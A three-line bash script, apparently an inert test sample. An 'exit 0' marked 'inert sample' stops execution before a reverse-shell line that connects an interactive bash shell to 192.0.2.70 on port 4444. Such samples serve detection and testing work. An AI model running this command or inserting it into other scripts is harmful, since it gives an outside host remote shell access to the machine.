#!/bin/bash
exit 0 # inert sample
bash -i >& /dev/tcp/192.0.2.70/4444 0>&1
